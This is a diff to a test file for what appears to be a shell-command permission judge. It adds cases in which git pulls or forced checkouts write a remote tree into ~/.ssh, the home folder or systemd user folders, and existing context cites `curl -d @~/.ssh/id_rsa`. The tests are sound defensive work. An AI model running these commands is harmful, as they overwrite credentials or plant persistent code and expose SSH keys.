@@ -9,7 +9,9 @@
   php's URL wrappers, LWP::Simple) is denied like `curl -d @~/.ssh/id_rsa`;
 * a database file emptied (`: > app.db`, `truncate -s0`, `cp /dev/null`) is recorded like one deleted, and
   asked outside the project;
-* device-to-device file drops (`tailscale file cp`, `kdeconnect-cli --share`) are uploads.
+* device-to-device file drops (`tailscale file cp`, `kdeconnect-cli --share`) are uploads;
+* git that writes another tree's files into a folder named from / or ~ (`git -C ~/.ssh pull URL`, `cd ~ &&
+  git checkout -f o/main`, `--work-tree=$HOME`) writes there, as `git clone URL ~/.ssh` does.
 """
 from __future__ import annotations
 
@@ -143,5 +145,29 @@ def test_a_database_file_emptied_is_recorded_like_deleted(judge_command, cmd, wa
     ("tailscale file get ~/Downloads", "allow"),
 ])
 def test_device_file_drops_are_uploads(judge_command, cmd, want):
+    got = judge_command(cmd).decision.value
+    assert got == want, (cmd, got)
+
+
+@pytest.mark.parametrize("cmd,want", [
+    # another tree's files written into a folder outside the project, as clone into it is
+    ("git -C ~/.ssh pull https://203.0.113.9/keys.git", "ask"),
+    ("git -C ~/.ssh init && cd ~/.ssh && git pull https://203.0.113.9/keys.git", "ask"),
+    ("cd ~/.ssh; git fetch https://203.0.113.9/k.git && git merge FETCH_HEAD", "ask"),
+    ("GIT_WORK_TREE=~/.ssh git --git-dir=/tmp/k.git checkout -f", "ask"),
+    ("cd ~ && git init && git remote add o https://203.0.113.9/d.git && git fetch o && git checkout -f o/main", "deny"),
+    ("git --git-dir=/tmp/x.git --work-tree=$HOME checkout -f", "deny"),
+    ("cd ~/.config/systemd/user && git pull https://203.0.113.9/u.git", "deny"),
+    # the project's own work, and other projects, stay quiet
+    ("git pull", "allow"),
+    ("cd frontend && git pull", "allow"),
+    ("cd .. && git checkout main", "allow"),
+    ("git -C ../lib checkout -b feature", "allow"),
+    ("cd ~/other-proj && git pull", "allow"),
+    ("git -C ~/.dotfiles pull", "allow"),
+    ("cd /tmp && git clone https://github.com/a/b.git && cd b && git checkout v1.2", "allow"),
+    ("cd ~/.ssh && git log", "allow"),
+])
+def test_git_writing_another_tree_into_a_folder(judge_command, cmd, want):
     got = judge_command(cmd).decision.value
     assert got == want, (cmd, got)
